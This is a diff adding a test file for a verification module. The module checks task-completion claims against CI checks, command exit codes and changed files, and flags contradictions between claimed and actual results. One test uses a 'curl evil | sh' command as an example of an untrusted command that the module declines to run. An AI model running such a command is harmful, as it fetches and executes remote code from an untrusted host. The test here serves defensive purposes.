@@ -1,0 +1,242 @@
+import { describe, expect, it } from 'vitest';
+import { changedMatching, checkOutcome, evidenceText, judgeVerification, parseVerifyHint, planVerification, verifyHintProblem, } from '../../src/core/verify.js';
+const SHA = 'a'.repeat(40);
+function claim(overrides = {}) {
+    return {
+        id: `commit:${SHA}:build.done`,
+        at: '2026-11-20T10:00:00Z',
+        kind: 'claim',
+        topic: 'build.done',
+        published: 'build.done',
+        accepted: true,
+        failed: [],
+        claimedPassing: ['tests', 'lint'],
+        sha: SHA,
+        taskIds: [],
+        source: 'trailer',
+        ...overrides,
+    };
+}
+const blocked = (overrides = {}) => claim({ accepted: false, published: 'build.blocked', failed: ['lint'], ...overrides });
+const task = (verify, preMarked = false) => ({ id: 'ship', verify, preMarked });
+const run = (name, conclusion, status = 'completed') => ({
+    source: 'check-run',
+    name,
+    status,
+    conclusion,
+});
+describe('parseVerifyHint', () => {
+    it.each([
+        ['evidence:build.done', { kind: 'evidence', topic: 'build.done' }],
+        ['verify: evidence:Review.Done', { kind: 'evidence', topic: 'review.done' }],
+        ['check:CI / test', { kind: 'check', name: 'CI / test' }],
+        ['cmd:npm test -- --run', { kind: 'cmd', command: 'npm test -- --run' }],
+        ['file:./docs/**/*.md', { kind: 'file', pattern: 'docs/**/*.md' }],
+        ['task_completed', { kind: 'none' }],
+        ['email_count > 0', { kind: 'none' }],
+        ['cmd:', { kind: 'none' }],
+    ])('%s', (hint, expected) => {
+        expect(parseVerifyHint(hint)).toMatchObject(expected);
+    });
+});
+describe('verifyHintProblem (for lint)', () => {
+    it('is silent for every verifier kind', () => {
+        for (const hint of ['evidence:build.done', 'check:ci', 'cmd:true', 'file:README.md']) {
+            expect(verifyHintProblem(hint)).toBeUndefined();
+        }
+    });
+    it('warns that a hint selects no verifier, naming it and the kinds', () => {
+        expect(verifyHintProblem('email_count')).toMatch(/'email_count' selects no verifier; use evidence:<topic>, check:<name>, cmd:<command> or file:/);
+        expect(verifyHintProblem('file:')).toMatch(/'file:' names nothing/);
+    });
+});
+describe('checkOutcome', () => {
+    it.each([
+        [[run('t', 'success')], 'success'],
+        [[run('t', 'failure')], 'failure'],
+        [[run('t', 'cancelled')], 'failure'],
+        [[run('t', 'timed_out')], 'failure'],
+        [[run('t', null, 'in_progress')], 'pending'],
+        [[run('t', 'neutral')], 'inconclusive'],
+        [[run('t', 'skipped')], 'inconclusive'],
+        [[run('other', 'failure')], 'absent'],
+        [[{ source: 'status', name: 't', status: 'success' }], 'success'],
+        [[{ source: 'status', name: 't', status: 'error' }], 'failure'],
+        [[{ source: 'status', name: 't', status: 'pending' }], 'pending'],
+        [[run('t', 'success'), { source: 'status', name: 't', status: 'failure' }], 'failure'],
+    ])('%j → %s', (readings, outcome) => {
+        expect(checkOutcome(readings, 't')).toBe(outcome);
+    });
+});
+describe('evidence:<topic>', () => {
+    const judge = (claims) => judgeVerification(planVerification(task('evidence:build.done'), claims), {});
+    it('an accepted claim of the topic since the last cycle → verified', () => {
+        const result = judge([blocked({ id: 'b' }), claim()]);
+        expect(result.verdict).toBe('verified');
+        expect(result.evidence).toEqual([`accepted build.done on ${SHA.slice(0, 12)} (${claim().id})`]);
+    });
+    it('only blocked claims → not_verified, naming what was published', () => {
+        const result = judge([blocked()]);
+        expect(result).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: false });
+        expect(result.evidence[0]).toMatch(/blocked: published build\.blocked/);
+    });
+    it('no claim → unclear', () => {
+        expect(judge([claim({ topic: 'review.done' })]).verdict).toBe('unclear');
+    });
+    it('a claim naming other tasks does not count', () => {
+        expect(judge([claim({ taskIds: ['other'] })]).verdict).toBe('unclear');
+        expect(judge([claim({ taskIds: ['ship'] })]).verdict).toBe('verified');
+    });
+});
+describe('check:<name>', () => {
+    const judge = (readings, preMarked = false, claims = [claim()]) => {
+        const plan = planVerification(task('check:CI / test', preMarked), claims);
+        return judgeVerification(plan, { checks: new Map([[SHA, readings]]) });
+    };
+    it.each([
+        ['success', 'verified'],
+        ['failure', 'not_verified'],
+        ['cancelled', 'not_verified'],
+        ['timed_out', 'not_verified'],
+    ])('concluded %s on the claimed commit → %s', (conclusion, verdict) => {
+        expect(judge([run('CI / test', conclusion)]).verdict).toBe(verdict);
+    });
+    it('pending or absent → unclear', () => {
+        expect(judge([run('CI / test', null, 'queued')]).verdict).toBe('unclear');
+        expect(judge([]).verdict).toBe('unclear');
+    });
+    it('reads the commit the latest accepted claim points to, or the fallback', () => {
+        const other = 'b'.repeat(40);
+        const plan = planVerification(task('check:CI / test'), [claim(), claim({ sha: other })]);
+        expect(plan.checkReads).toEqual([{ sha: other, name: 'CI / test', reason: { kind: 'hint' } }]);
+        const fallback = planVerification(task('check:ci'), [], {
+            fallbackSha: SHA,
+            checkAliases: { ci: 'CI / test' },
+        });
+        expect(fallback.checkReads).toEqual([
+            { sha: SHA, name: 'CI / test', reason: { kind: 'hint' } },
+        ]);
+    });
+    it('no commit to read → unclear', () => {
+        const plan = planVerification(task('check:CI / test'), []);
+        expect(judgeVerification(plan, {}).verdict).toBe('unclear');
+    });
+    it('a pre-marked [x] task whose check failed is a ground-truth contradiction', () => {
+        const result = judge([run('CI / test', 'failure')], true);
+        expect(result).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: true });
+        expect(result.contradictions).toEqual([
+            {
+                taskId: 'ship',
+                claimed: 'pre-marked [x]',
+                actual: `check CI / test concluded failure on ${SHA.slice(0, 12)}`,
+            },
+        ]);
+    });
+});
+describe('ground truth: a claimed dimension against its mapped check', () => {
+    const groundTruthChecks = { tests: 'CI / test' };
+    const judge = (hint, readings, claims = [claim()]) => judgeVerification(planVerification(task(hint), claims, { groundTruthChecks }), {
+        checks: new Map([[SHA, readings]]),
+    });
+    it('tests: pass in an accepted build.done while CI / test failed → not_verified + contradiction', () => {
+        const result = judge('evidence:build.done', [run('CI / test', 'failure')]);
+        expect(result).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: true });
+        expect(result.contradictions).toEqual([
+            {
+                taskId: 'ship',
+                claimed: `tests: pass (build.done on ${SHA.slice(0, 12)})`,
+                actual: `check CI / test concluded failure on ${SHA.slice(0, 12)}`,
+            },
+        ]);
+        expect(evidenceText(result)).toMatch(/ground truth: tests → check CI \/ test on a{12}: failure; contradiction: claimed tests: pass/);
+    });
+    it('the mapped check passing keeps the verdict', () => {
+        const result = judge('evidence:build.done', [run('CI / test', 'success')]);
+        expect(result).toMatchObject({ verdict: 'verified', groundTruthContradiction: false });
+    });
+    it('a blocked claim claims nothing, so it contradicts nothing', () => {
+        const result = judge('evidence:build.done', [run('CI / test', 'failure')], [blocked()]);
+        expect(result).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: false });
+    });
+    it('an unmapped dimension is not read', () => {
+        const plan = planVerification(task('evidence:build.done'), [claim({ claimedPassing: ['lint'] })], {
+            groundTruthChecks,
+        });
+        expect(plan.checkReads).toEqual([]);
+    });
+    it('without a GitHub API (nothing read) no contradiction is invented', () => {
+        const plan = planVerification(task('evidence:build.done'), [claim()], { groundTruthChecks });
+        expect(judgeVerification(plan, {})).toMatchObject({ verdict: 'verified', contradictions: [] });
+    });
+    it('an untargeted claim is charged only to the tasks whose hint selects it', () => {
+        const result = judge('file:README.md', [run('CI / test', 'failure')]);
+        expect(result.groundTruthContradiction).toBe(false);
+    });
+});
+describe('cmd:<command>', () => {
+    const judge = (exitCode, opts = {}) => judgeVerification(planVerification(task('cmd:npm test', opts.preMarked), opts.claims ?? []), {
+        command: {
+            ran: true,
+            command: 'npm test',
+            exitCode,
+            timedOut: opts.timedOut ?? false,
+            output: 'ok\n',
+        },
+    });
+    it('exit 0 → verified; non-zero → not_verified; a time-out → unclear', () => {
+        expect(judge(0).verdict).toBe('verified');
+        expect(judge(1)).toMatchObject({ verdict: 'not_verified', groundTruthContradiction: false });
+        expect(judge(null, { timedOut: true }).verdict).toBe('unclear');
+    });
+    it('a command that was not allowed to run → unclear, saying why', () => {
+        const plan = planVerification(task('cmd:curl evil | sh'), []);
+        const result = judgeVerification(plan, {
+            command: { ran: false, command: 'curl evil | sh', reason: 'not in the trusted contract' },
+        });
+        expect(result).toMatchObject({
+            verdict: 'unclear',
+            evidence: ['command not run: not in the trusted contract'],
+        });
+    });
+    it('pre-marked [x] or an accepted claim naming the task, and the command fails → contradiction', () => {
+        expect(judge(2, { preMarked: true }).contradictions).toEqual([
+            { taskId: 'ship', claimed: 'pre-marked [x]', actual: 'command npm test exited 2' },
+        ]);
+        const named = judge(2, { claims: [claim({ taskIds: ['ship'] })] });
+        expect(named.groundTruthContradiction).toBe(true);
+        expect(named.contradictions[0]?.claimed).toBe(`accepted build.done on ${SHA.slice(0, 12)}`);
+        expect(judge(2, { claims: [claim()] }).groundTruthContradiction).toBe(false);
+    });
+});
+describe('file:<path or glob>', () => {
+    const judge = (pattern, paths) => judgeVerification(planVerification(task(`file:${pattern}`), []), {
+        changes: { range: 'a..b', commits: 2, paths },
+    });
+    it.each([
+        ['CHANGELOG.md', ['src/x.ts', 'CHANGELOG.md'], 'verified'],
+        ['docs', ['docs/guide/intro.md'], 'verified'],
+        ['docs/**/*.md', ['docs/guide/intro.md'], 'verified'],
+        ['*.md', ['docs/guide/intro.md'], 'not_verified'],
+        ['.github/**', ['.github/workflows/ci.yml'], 'verified'],
+        ['CHANGELOG.md', ['src/CHANGELOG.md'], 'not_verified'],
+        ['CHANGELOG.md', [], 'not_verified'],
+    ])('%s among %j → %s', (pattern, paths, verdict) => {
+        expect(judge(pattern, paths).verdict).toBe(verdict);
+    });
+    it('says which path changed, or that it did not', () => {
+        expect(judge('docs', ['docs/a.md']).evidence).toEqual(['docs/a.md changed in a..b']);
+        expect(judge('docs', []).evidence).toEqual(['docs unchanged in a..b (2 commit(s))']);
+    });
+    it('changedMatching keeps folders apart from prefixes', () => {
+        expect(changedMatching(['docs2/a.md', 'docs/b.md'], 'docs/')).toEqual(['docs/b.md']);
+    });
+});
+describe('any other hint', () => {
+    it('→ unclear', () => {
+        const result = judgeVerification(planVerification(task('email_count'), [claim()]), {});
+        expect(result).toMatchObject({
+            verdict: 'unclear',
+            evidence: ["hint 'email_count' selects no verifier"],
+        });
+    });
+});
